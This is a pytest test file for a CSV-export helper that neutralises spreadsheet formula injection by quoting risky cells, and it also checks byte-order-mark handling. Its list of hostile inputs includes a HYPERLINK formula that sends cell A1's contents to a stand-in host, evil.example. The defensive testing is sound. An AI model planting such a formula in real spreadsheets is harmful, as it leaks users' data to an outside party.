"""CSV formula injection: text cells a spreadsheet would evaluate are neutralised."""

from __future__ import annotations

import csv

import pandas as pd
import pytest

from meetinglib.core.csvsafe import safe_cell, safe_frame, to_csv, write_rows

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"x")',
    "+SUM(A1)",
    "@SUM(1+1)",
    "=1+2",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_text_gets_a_leading_quote(text: str) -> None:
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["plain", "a=b", "", "-3.5", "+2", "1e-3", 3, -3.5, None])
def test_harmless_values_are_kept(value: object) -> None:
    assert safe_cell(value) == value


def test_frame_keeps_numbers_numeric_and_neutralises_text(tmp_path) -> None:
    frame = pd.DataFrame(
        {"segment": ["=1+2", "ok", "@x"], "change": [-0.5, 1.0, -2.0], "n": [1, 2, 3]}
    )
    path = tmp_path / "out.csv"
    to_csv(frame, path)
    rows = list(csv.reader(path.open(encoding="utf-8-sig")))
    assert rows[0] == ["segment", "change", "n"]
    assert [r[0] for r in rows[1:]] == ["'=1+2", "ok", "'@x"]
    assert [r[1] for r in rows[1:]] == ["-0.5", "1.0", "-2.0"]
    assert frame["segment"].tolist() == ["=1+2", "ok", "@x"]  # the input is not changed
    assert safe_frame(frame)["change"].dtype.kind == "f"


def test_files_start_with_a_byte_order_mark_and_text_does_not(tmp_path) -> None:
    """Excel reads a CSV file without the mark in the machine's code page: Chinese
    text would show garbled. Text for a terminal or a pipe carries none."""
    frame = pd.DataFrame({"label": ["下单量"], "value": [3]})
    to_csv(frame, tmp_path / "a.csv")
    write_rows(tmp_path / "b.csv", ["部门"], [["物流部"]])
    for name in ("a.csv", "b.csv"):
        raw = (tmp_path / name).read_bytes()
        assert raw.startswith(b"\xef\xbb\xbf") and raw.count(b"\xef\xbb\xbf") == 1
        assert "\ufeff" not in raw.decode("utf-8-sig")
    assert pd.read_csv(tmp_path / "a.csv").columns.tolist() == ["label", "value"]
    text = to_csv(frame)
    assert text is not None and not text.startswith("\ufeff")
    assert not (write_rows(None, ["部门"], [["物流部"]]) or "").startswith("\ufeff")


def test_write_rows_neutralises_header_and_cells() -> None:
    text = write_rows(None, ["=h", "b"], [["+1+1", 5], ["x", -1]])
    assert text is not None
    assert list(csv.reader(text.splitlines())) == [["'=h", "b"], ["'+1+1", "5"], ["x", "-1"]]
